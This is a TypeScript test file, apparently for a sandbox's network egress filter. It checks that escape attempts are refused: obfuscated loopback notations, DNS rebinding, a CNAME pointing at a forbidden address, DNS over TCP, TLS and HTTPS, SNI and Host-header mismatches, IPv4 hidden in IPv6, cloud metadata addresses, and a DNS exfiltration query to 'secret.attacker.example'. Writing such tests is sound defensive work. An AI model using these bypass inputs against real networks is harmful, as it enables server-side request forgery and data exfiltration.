/** Ways around the rules that a guest could try, each by its name. @module */
import assert from "node:assert/strict";
import { decode } from "dns-packet";
import { pollUntil } from "../../../src/base/wait.ts";
import type { EgressConfig } from "../../../src/egress/config.ts";
import { destinations, policies, portRanges, rules } from "../../../src/egress/policy/factories.ts";
import { HttpInterceptor } from "../../../src/egress/tls/interceptor.ts";
import { clientHelloFor } from "../../support/egress/client_hello.ts";
import { configOf, listen, readAll, send, startCore, type TestCore } from "../../support/egress/core.ts";
import {
  a,
  ask,
  cname,
  type NameServer,
  queryFor,
  startNameServer,
  zoneOf,
} from "../../support/egress/name_server.ts";
import { test } from "../../support/harness.ts";
import { within } from "../../support/within.ts";

const ALLOWED = "93.184.216.34";
const zone = zoneOf([
  a("allowed.example", ALLOWED),
  a("other.example", "93.184.216.99"),
  cname("sly.allowed.example", "elsewhere.example"),
  a("elsewhere.example", "10.0.0.5"),
  a("rebound.allowed.example", "127.0.0.1"),
]);

function namesOnly(server: NameServer, ...allow: readonly string[]): EgressConfig {
  return configOf(allow.length > 0 ? allow : ["allowed.example", "*.allowed.example"], {
    dns: { nameservers: [`127.0.0.1:${server.port}`], rebindProtection: true, queryTimeoutMs: 3_000 },
  });
}

/** A server that says what it received. */
async function startMirror(core: TestCore) {
  const received: Buffer[] = [];
  const server = await listen((socket) => {
    socket.on("data", (chunk) => received.push(Buffer.from(chunk)));
    socket.on("end", () => socket.end());
  });
  core.routes.set(ALLOWED, server.port);
  return {
    received: () => Buffer.concat(received).toString("latin1"),
    [Symbol.asyncDispose]: () => server[Symbol.asyncDispose](),
  };
}

test("escape: an IP literal that no name was resolved to", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns));
  for (const address of [ALLOWED, "93.184.216.99", "2606:4700::1"])
    assert.equal(await core.link.connect(address, 443), "refused");
  assert.deepEqual(core.dialled, []);
});

test("escape: an address in another notation, as a destination and as a name", async () => {
  await using dns = await startNameServer(() => ({ answers: [a("x", ALLOWED)] }));
  await using core = startCore(configOf(["public"], { dns: namesOnly(dns).dns }));
  for (const text of ["0x7f.1", "2130706433", "017700000001", "127.1", "0x7f000001", "127.0.0.1."]) {
    assert.equal(await core.link.connect(text, 80), "refused", text);
    assert.equal((await ask(core.link, text)).rcode, "REFUSED", text);
  }
  assert.deepEqual([core.dialled, dns.asked], [[], []]);
});

test("escape: a CNAME of an allowed name to a forbidden address", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns));
  assert.equal((await ask(core.link, "sly.allowed.example")).rcode, "NXDOMAIN");
  assert.equal(await core.link.connect("10.0.0.5", 80), "refused");
  assert.equal((await ask(core.link, "elsewhere.example")).rcode, "NXDOMAIN");
  assert.deepEqual(core.dialled, []);
});

test("escape: a name that is rebound to loopback between two questions", async () => {
  let data = ALLOWED;
  await using dns = await startNameServer((name) => ({ answers: [a(name, data, 0)] }));
  await using core = startCore(namesOnly(dns));
  assert.deepEqual((await ask(core.link, "allowed.example")).addresses, [ALLOWED]);
  for (data of ["127.0.0.1", "10.0.0.1", "169.254.169.254", "0.0.0.0", "203.0.113.254"]) {
    assert.equal((await ask(core.link, "allowed.example")).rcode, "NXDOMAIN", data);
    assert.equal(await core.link.connect(data, 80), "refused", data);
  }
  assert.deepEqual(core.dialled, []);
});

test("escape: DNS over TCP to a resolver of the guest's choice", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns));
  const guest = await core.link.mustConnect("8.8.8.8", 53);
  const { message } = queryFor("secret.attacker.example", "A");
  await send(guest, Buffer.concat([Buffer.of(message.length >> 8, message.length & 255), message]), true);
  const reply = await readAll(guest);
  assert.equal((reply[5] ?? 0) & 15, 3); // NXDOMAIN
  assert.equal(decode(reply.subarray(2)).answers?.length, 0);
  assert.deepEqual([core.dialled, dns.asked], [[], []]);
});

test("escape: DNS over TLS and QUIC, unless a rule names the port", async () => {
  await using core = startCore(configOf(["public"]));
  assert.equal(await core.link.connect("1.1.1.1", 853), "refused");
  assert.equal(await core.link.datagrams("1.1.1.1", 853, Buffer.from("x")), "refused");
  assert.deepEqual(core.dialled, []);
  core.egress.update(configOf(["1.1.1.1:853"]));
  await core.link.connect("1.1.1.1", 853);
  assert.deepEqual(core.dialled, [{ address: "1.1.1.1", port: 853 }]);
  await core.close();
  assert.deepEqual(
    core.entries.slice(0, 2).map(({ reason }) => reason),
    ["dnsOverTls", "dnsOverTls"],
  );
});

test("escape: DNS over HTTPS at the address of an allowed host", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns));
  await using mirror = await startMirror(core);
  await ask(core.link, "allowed.example");
  const guest = await core.link.mustConnect(ALLOWED, 443);
  await send(guest, clientHelloFor("cloudflare-dns.com"));
  await within(5_000, "the reset", () => guest.wasReset);
  assert.equal(mirror.received(), "");
});

test("escape: a name in TLS that differs from the one that was resolved", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns));
  await using mirror = await startMirror(core);
  await ask(core.link, "allowed.example");
  for (const hello of [clientHelloFor("other.example"), clientHelloFor(undefined)]) {
    const guest = await core.link.mustConnect(ALLOWED, 443);
    await send(guest, hello.subarray(0, 20));
    await send(guest, hello.subarray(20));
    await within(5_000, "the reset", () => guest.wasReset);
  }
  assert.equal(mirror.received(), "");
  const guest = await core.link.mustConnect(ALLOWED, 443);
  const hello = clientHelloFor("allowed.example");
  await send(guest, hello.subarray(0, 100));
  await send(guest, hello.subarray(100), true);
  await readAll(guest);
  assert.equal(mirror.received(), hello.toString("latin1"));
  await core.idle();
  await core.close();
  assert.equal(core.entries.filter(({ reason }) => reason === "serverName").length, 2);
});

test("escape: a Host, or a target, that differs from the name that was resolved", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns));
  await using mirror = await startMirror(core);
  await ask(core.link, "allowed.example");
  const requests = [
    "GET / HTTP/1.1\r\nHost: other.example\r\n\r\n",
    "GET http://other.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: other.example\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: 10.0.0.1\r\n\r\n",
    "GET / HTTP/1.0\r\n\r\n",
    "CONNECT other.example:443 HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  ];
  for (const request of requests) {
    const guest = await core.link.mustConnect(ALLOWED, 80);
    await send(guest, request);
    await within(5_000, `the reset of ${request}`, () => guest.wasReset);
  }
  assert.equal(mirror.received(), "");
  const good = "GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n";
  const guest = await core.link.mustConnect(ALLOWED, 80);
  for (const letter of good.slice(0, -1)) await send(guest, letter);
  assert.ok(!mirror.received().includes("HTTP"), "a name could be in what was sent on");
  await send(guest, good.slice(-1), true);
  await readAll(guest);
  assert.equal(mirror.received(), good);
});

test("escape: a request in pieces, of which the first could be another protocol", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns));
  await using mirror = await startMirror(core);
  await ask(core.link, "allowed.example");
  const guest = await core.link.mustConnect(ALLOWED, 80);
  for (const letter of "GET / HTTP/1.1\r\nHost: other.example\r\n\r\n")
    await send(guest, letter).catch(() => {});
  await within(5_000, "the reset", () => guest.wasReset);
  assert.ok(!mirror.received().includes("HTTP"), mirror.received());
});

test("a protocol without lines is not held up, though it could become HTTP", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns));
  await using server = await listen((socket) => socket.on("data", (data) => socket.write(`got ${data}`)));
  core.routes.set(ALLOWED, server.port);
  await ask(core.link, "allowed.example");
  const guest = await core.link.mustConnect(ALLOWED, 80);
  await send(guest, "ping");
  const { value } = await within(5_000, "the answer", () => guest.readable.getReader().read());
  assert.equal(Buffer.from(value ?? []).toString(), "got ping");
});

test("the host's services are called by any name", async () => {
  await using server = await listen((socket) => socket.once("data", (data) => socket.end(data)));
  await using core = startCore(configOf([`host.microsandbox.internal:${server.port}`]), { isDirect: true });
  const guest = await core.link.mustConnect("203.0.113.254", server.port);
  const request = "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n";
  await send(guest, request, true);
  assert.equal((await readAll(guest)).toString(), request);
});

test("escape: a request that ends before its head does", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns));
  await using mirror = await startMirror(core);
  await ask(core.link, "allowed.example");
  const guest = await core.link.mustConnect(ALLOWED, 80);
  await send(guest, "GET / HTTP/1.1\r\nHost: other.example\r\n", true);
  await within(5_000, "the reset", () => guest.wasReset);
  assert.equal(mirror.received(), "");
});

test("escape: QUIC to the address of an allowed host, where its name would not be seen", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns));
  await ask(core.link, "allowed.example");
  assert.equal(await core.link.datagrams(ALLOWED, 443, Buffer.from("x")), "refused");
  await core.close();
  assert.equal(core.entries[0]?.reason, "quic");
});

test("escape: IPv4 within IPv6", async () => {
  await using core = startCore(configOf(["public", "2002::/16", "64:ff9b::/32", "::/0"]));
  const loopback = [
    "::ffff:127.0.0.1",
    "::ffff:7f00:1",
    "64:ff9b::7f00:1",
    "2002:7f00:1::",
    "::7f00:1",
    "::1",
    "::",
  ];
  const metadata = [
    "::ffff:169.254.169.254",
    "64:ff9b::a9fe:a9fe",
    "2002:a9fe:a9fe::1",
    "64:ff9b:1::a9fe:a9fe",
  ];
  const private_ = ["::ffff:10.0.0.1", "64:ff9b::a00:1", "2002:a00:1::1"];
  for (const address of [...loopback, ...metadata, ...private_])
    assert.equal(await core.link.connect(address, 80), "refused", address);
  assert.deepEqual(core.dialled, []);
});

test("escape: the metadata address, also where everything is allowed", async () => {
  await using core = startCore(configOf());
  for (const address of ["169.254.169.254", "fd00:ec2::254", "169.254.170.2", "168.63.129.16"]) {
    assert.equal(await core.link.connect(address, 80), "refused", address);
    assert.equal(await core.link.datagrams(address, 80, Buffer.from("x")), "refused", address);
  }
  core.egress.update(configOf(["169.254.0.0/16", "any", "link-local"]));
  assert.equal(await core.link.connect("169.254.169.254", 80), "refused");
  assert.deepEqual(core.dialled, []);
  core.egress.update(configOf(["169.254.169.254:80"]));
  await core.link.connect("169.254.169.254", 80);
  assert.deepEqual(core.dialled, [{ address: "169.254.169.254", port: 80 }]);
});

test("escape: the host's loopback by its address, whatever the rules say", async () => {
  const all = ["127.0.0.0/8", "::/0", "loopback", "host", "0.0.0.0/8", "any"];
  await using core = startCore(configOf(all), { isDirect: true });
  await using server = await listen((socket) => socket.end("of the host"));
  for (const address of [
    "127.0.0.1",
    "127.9.9.9",
    "::1",
    "0.0.0.0",
    "::",
    "255.255.255.255",
    "203.0.113.1",
    "::ffff:127.0.0.1",
  ])
    assert.equal(await core.link.connect(address, server.port), "refused", address);
  await core.close();
  assert.deepEqual([...new Set(core.entries.map(({ reason }) => reason))], ["unroutable"]);
});

test("escape: other ports of the host than the one that is allowed", async () => {
  await using server = await listen((socket) => socket.end("of the host"));
  await using other = await listen((socket) => socket.end("secret"));
  await using core = startCore(configOf([`host.microsandbox.internal:${server.port}`]), { isDirect: true });
  for (const address of (await ask(core.link, "host.microsandbox.internal")).addresses) {
    const guest = await core.link.mustConnect(address, server.port);
    assert.equal((await readAll(guest)).toString(), "of the host");
    await guest.writable.close();
    assert.equal(await core.link.connect(address, other.port), "refused");
  }
  core.egress.update(configOf());
  assert.equal(await core.link.connect("203.0.113.254", server.port), "refused"); // a default does not open the host
});

test("the host's name leads to a service that listens on IPv6 only", async () => {
  await using server = await listen((socket) => socket.end("six"), "::1");
  await using core = startCore(configOf([`host.microsandbox.internal:${server.port}`]), { isDirect: true });
  const guest = await core.link.mustConnect("203.0.113.254", server.port);
  assert.equal((await readAll(guest)).toString(), "six");
  await guest.writable.close();
});

test("escape: a denied name on an address that is allowed", async () => {
  const policy = {
    ...policies.none(),
    rules: [
      rules.denyEgress(destinations.domain("other.example")),
      rules.allowEgress(destinations.cidr(ALLOWED)),
    ],
  };
  await using core = startCore({ ...configOf(), policy });
  await using mirror = await startMirror(core);
  const guest = await core.link.mustConnect(ALLOWED, 443);
  await send(guest, clientHelloFor("other.example"));
  await within(5_000, "the reset", () => guest.wasReset);
  assert.equal(mirror.received(), "");
});

test("a protocol that shows no name passes by the address that was resolved", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns, "allowed.example:5432"));
  await using mirror = await startMirror(core);
  await ask(core.link, "allowed.example");
  const guest = await core.link.mustConnect(ALLOWED, 5432);
  await send(guest, Buffer.of(0, 0, 0, 8, 4, 210, 22, 47), true); // PostgreSQL asks for TLS
  await readAll(guest);
  assert.equal(mirror.received().length, 8);
});

test("UDP port 443 passes where a rule names UDP", async () => {
  await using dns = await startNameServer(zone);
  const rule = {
    ...rules.allowEgress(destinations.domain("allowed.example")),
    protocols: ["udp" as const],
    ports: [portRanges.single(443)],
  };
  await using core = startCore({ ...namesOnly(dns), policy: { ...policies.none(), rules: [rule] } });
  await ask(core.link, "allowed.example");
  await core.link.datagrams(ALLOWED, 443, Buffer.from("x"));
  assert.deepEqual(core.dialled, [{ address: ALLOWED, port: 443 }]);
});

test("escape: a connection that stays open for a name which is allowed, but was only shown", async () => {
  await using dns = await startNameServer(zone);
  await using core = startCore(namesOnly(dns, "allowed.example", "other.example"));
  await using mirror = await startMirror(core);
  await ask(core.link, "allowed.example");
  const open = async (name: string) => {
    const guest = await core.link.mustConnect(ALLOWED, 443);
    await send(guest, clientHelloFor(name));
    return guest;
  };
  const [kept, gone] = [await open("allowed.example"), await open("other.example")];
  const isThere = () =>
    mirror.received().includes("other.example") && mirror.received().includes("allowed.example");
  assert.ok(await pollUntil(isThere, { everyMs: 5, timeoutMs: 5_000 }));
  core.egress.update(namesOnly(dns, "allowed.example"));
  await within(5_000, "the reset", () => gone.wasReset);
  core.egress.update(namesOnly(dns, "other.example"));
  await within(5_000, "the reset", () => kept.wasReset);
  const late = await core.link.connect(ALLOWED, 443);
  assert.equal(late, "refused");
});

test("escape: a second request on a connection, with another Host", async () => {
  await using dns = await startNameServer(zone);
  const config = namesOnly(dns);
  await using core = startCore(config, { interceptor: new HttpInterceptor({ config }) });
  let received = "";
  await using server = await listen((socket) =>
    socket.on("data", (data) => {
      received += data;
      socket.write("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
    }),
  );
  core.routes.set(ALLOWED, server.port);
  await ask(core.link, "allowed.example");
  const guest = await core.link.mustConnect(ALLOWED, 80);
  const reader = guest.readable.getReader();
  const answer = async (): Promise<string> => Buffer.from((await reader.read()).value ?? []).toString();
  await send(guest, "GET /1 HTTP/1.1\r\nHost: allowed.example\r\n\r\n");
  assert.match(await within(5_000, "the first answer", answer), /^HTTP\/1\.1 200/);
  await send(guest, "GET /2 HTTP/1.1\r\nHost: other.example\r\n\r\n");
  assert.doesNotMatch(
    await within(5_000, "the second answer", () => answer().catch(() => "")),
    /^HTTP\/1\.1 200/,
  );
  assert.match(received, /^GET \/1/);
  assert.ok(!received.includes("other.example"), received);
});
